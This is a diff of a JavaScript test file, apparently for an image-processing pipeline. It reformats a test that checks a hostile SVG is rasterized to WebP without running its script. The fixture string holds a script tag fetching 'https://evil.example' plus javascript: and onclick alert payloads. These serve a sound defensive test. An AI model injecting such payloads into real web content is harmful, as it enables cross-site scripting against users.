@@ -86,7 +86,9 @@ test('removes metadata and applies the orientation', async () => {
 })
 
 test('rasterizes an SVG without running its script', async () => {
-  const hostile = `<script>fetch('https://evil.example')</script><a href="javascript:alert(1)" onclick="alert(1)">${disc}</a>`
+  const hostile =
+    `<script>fetch('https://evil.example')</script>` +
+    `<a href="javascript:alert(1)" onclick="alert(1)">${disc}</a>`
   const { files } = await drawWidths(svg(hostile), signal)
   for (const { bytes } of files) {
     expect((await sharp(bytes).metadata()).format).toBe('webp')
